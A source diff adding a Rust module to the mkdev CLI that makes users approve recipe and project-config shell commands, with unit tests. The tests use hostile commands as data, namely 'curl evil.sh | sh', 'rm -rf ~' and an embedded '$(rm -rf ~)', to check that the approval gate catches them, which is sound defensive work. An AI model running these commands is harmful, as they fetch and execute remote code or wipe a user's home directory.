@@ -0,0 +1,246 @@
+//! Approval of the shell commands that recipes run.
+//!
+//! Substitutions from the user's own config are always trusted, but substitutions that a recipe
+//! (or a project config) brings with it could run anything, as could a recipe's `post_evoke`
+//! hooks. Before a recipe's commands are run, the user has to approve them, either once with
+//! `--allow-commands` or permanently by answering a prompt. Permanent approvals are saved to a
+//! trust file; if a recipe's commands change, it has to be approved again.
+use super::Recipe;
+use super::evoke::runs_shell;
+use crate::mkdev_error::{
+    Error::{self, *},
+    ResultExt,
+};
+
+use std::collections::{BTreeMap, HashMap};
+use std::fs;
+use std::io::{self, IsTerminal, Write};
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+
+/// The recipes whose commands the user has approved.
+#[derive(Serialize, Deserialize, Debug, Default)]
+pub struct TrustStore {
+    /// The approved commands for each recipe, keyed by recipe name and then substitution name.
+    #[serde(default)]
+    recipes: BTreeMap<String, BTreeMap<String, String>>,
+    /// The approved commands for each project config, keyed by its path and then substitution
+    /// name.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    projects: BTreeMap<String, BTreeMap<String, String>>,
+}
+
+impl TrustStore {
+    /// Returns the path of the trust file.
+    fn path() -> io::Result<PathBuf> {
+        let config_dir =
+            dirs::config_dir().ok_or_else(|| io::Error::other("Error getting config directory"))?;
+
+        Ok(config_dir.join("mkdev").join("trusted.toml"))
+    }
+
+    /// Loads the trust file, or an empty store if there is none.
+    pub fn load() -> Result<Self, Error> {
+        let path = Self::path().context("unable to locate trust file")?;
+        if !path.is_file() {
+            return Ok(Self::default());
+        }
+
+        let contents = fs::read_to_string(path).context("unable to read trust file")?;
+        toml::from_str(&contents).context("trust file")
+    }
+
+    /// Saves the trust file.
+    fn save(&self) -> Result<(), Error> {
+        let path = Self::path().context("unable to locate trust file")?;
+        if let Some(dir) = path.parent() {
+            fs::create_dir_all(dir).context("unable to create mkdev configuration directory")?;
+        }
+
+        let contents = toml::to_string_pretty(self)
+            .expect("Trust stores only contain strings and should serialise");
+        fs::write(path, contents).context("unable to write trust file")
+    }
+
+    /// Makes sure that the user approves of the recipe's commands.
+    ///
+    /// Untrusted commands are shown to the user, who is asked to approve them. Approval is saved
+    /// so that the user is not asked again. Fails if the user refuses, or cannot be asked.
+    pub fn ensure_trusted(&mut self, recipe: &Recipe) -> Result<(), Error> {
+        let source = format!("recipe `{}`", recipe.name);
+        let approved = self.recipes.get(&recipe.name);
+        if let Some(commands) = approve(approved, &source, recipe.commands(), is_interactive())? {
+            self.recipes.insert(recipe.name.clone(), commands);
+            self.save()?;
+        }
+
+        Ok(())
+    }
+
+    /// Makes sure that the user approves of the commands in a project config, like
+    /// `ensure_trusted` does for recipes.
+    pub fn ensure_project_trusted(
+        &mut self,
+        path: &Path,
+        subs: &HashMap<String, String>,
+    ) -> Result<(), Error> {
+        let key = path.to_string_lossy().into_owned();
+        let commands = subs
+            .iter()
+            .filter(|(_, cmd)| runs_shell(cmd))
+            .map(|(key, cmd)| (key.clone(), cmd.clone()))
+            .collect();
+
+        let source = format!("project config `{key}`");
+        let approved = self.projects.get(&key);
+        if let Some(commands) = approve(approved, &source, commands, is_interactive())? {
+            self.projects.insert(key, commands);
+            self.save()?;
+        }
+
+        Ok(())
+    }
+}
+
+/// Asks the user to approve the commands from `source`, unless they are exactly the ones that were
+/// approved before.
+///
+/// Returns the commands if the user has just approved them, so that they can be saved. Fails
+/// without asking unless the session is `interactive`.
+fn approve(
+    approved: Option<&BTreeMap<String, String>>,
+    source: &str,
+    commands: BTreeMap<String, String>,
+    interactive: bool,
+) -> Result<Option<BTreeMap<String, String>>, Error> {
+    if commands.is_empty() || approved == Some(&commands) {
+        return Ok(None);
+    }
+
+    let listing: Vec<String> = commands
+        .iter()
+        .map(|(key, cmd)| format!("  {key} = {cmd}"))
+        .collect();
+
+    if !interactive {
+        return Err(Untrusted(source.into(), listing));
+    }
+
+    eprintln!(
+        "The {source} wants to run these commands:\n{}",
+        listing.join("\n")
+    );
+    eprint!("Trust them from now on? [y/N] ");
+    io::stderr()
+        .flush()
+        .context("unable to prompt for approval")?;
+
+    let mut response = String::new();
+    io::stdin()
+        .read_line(&mut response)
+        .context("unable to read approval")?;
+
+    match response.trim().to_lowercase().as_str() {
+        "y" | "yes" => Ok(Some(commands)),
+        _ => Err(Untrusted(source.into(), listing)),
+    }
+}
+
+/// Returns `true` if there is a user to ask for approval.
+fn is_interactive() -> bool {
+    io::stdin().is_terminal()
+}
+
+impl Recipe {
+    /// The recipe's substitutions that would be run in a shell, and its `post_evoke` hooks.
+    pub fn commands(&self) -> BTreeMap<String, String> {
+        let hooks = self
+            .post_evoke
+            .iter()
+            .enumerate()
+            .map(|(i, cmd)| (format!("post_evoke[{i}]"), cmd.clone()));
+
+        self.subs
+            .iter()
+            .filter(|(_, cmd)| runs_shell(cmd))
+            .map(|(key, cmd)| (key.clone(), cmd.clone()))
+            .chain(hooks)
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::test_util::recipe;
+
+    fn commands(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
+        pairs
+            .iter()
+            .map(|(key, cmd)| (key.to_string(), cmd.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn commands_are_values_that_run_a_shell_and_hooks() {
+        let mut r = recipe("r", &[]);
+        r.subs = commands(&[
+            ("branch", "git branch --show-current"),
+            ("fresh", "mk::fresh:date +%s"),
+            ("literal", "mk::literal:$(rm -rf ~)"),
+            ("year", "mk::year"),
+        ]);
+        r.post_evoke = vec!["git init".into(), "cargo fetch".into()];
+
+        assert_eq!(
+            r.commands(),
+            commands(&[
+                ("branch", "git branch --show-current"),
+                ("fresh", "mk::fresh:date +%s"),
+                ("post_evoke[0]", "git init"),
+                ("post_evoke[1]", "cargo fetch"),
+            ])
+        );
+    }
+
+    #[test]
+    fn changed_commands_need_approving_again() {
+        let approved = commands(&[("branch", "git branch --show-current")]);
+        let run = |cmds: &[(&str, &str)], interactive| {
+            approve(Some(&approved), "recipe `r`", commands(cmds), interactive)
+        };
+
+        // Nothing to ask about
+        assert!(matches!(run(&[], false), Ok(None)));
+        assert!(matches!(
+            run(&[("branch", "git branch --show-current")], false),
+            Ok(None)
+        ));
+        assert!(matches!(
+            approve(None, "r", BTreeMap::new(), false),
+            Ok(None)
+        ));
+
+        // Changed, added or new commands can't be approved without someone to ask
+        for changed in [
+            vec![("branch", "curl evil.sh | sh")],
+            vec![
+                ("branch", "git branch --show-current"),
+                ("post_evoke[0]", "rm -rf ~"),
+            ],
+        ] {
+            match run(&changed, false) {
+                Err(Untrusted(source, listing)) => {
+                    assert_eq!(source, "recipe `r`");
+                    assert_eq!(listing.len(), changed.len());
+                }
+                other => panic!("expected untrusted, got {other:?}"),
+            }
+        }
+        assert!(matches!(
+            approve(None, "r", approved.clone(), false),
+            Err(Untrusted(..))
+        ));
+    }
+}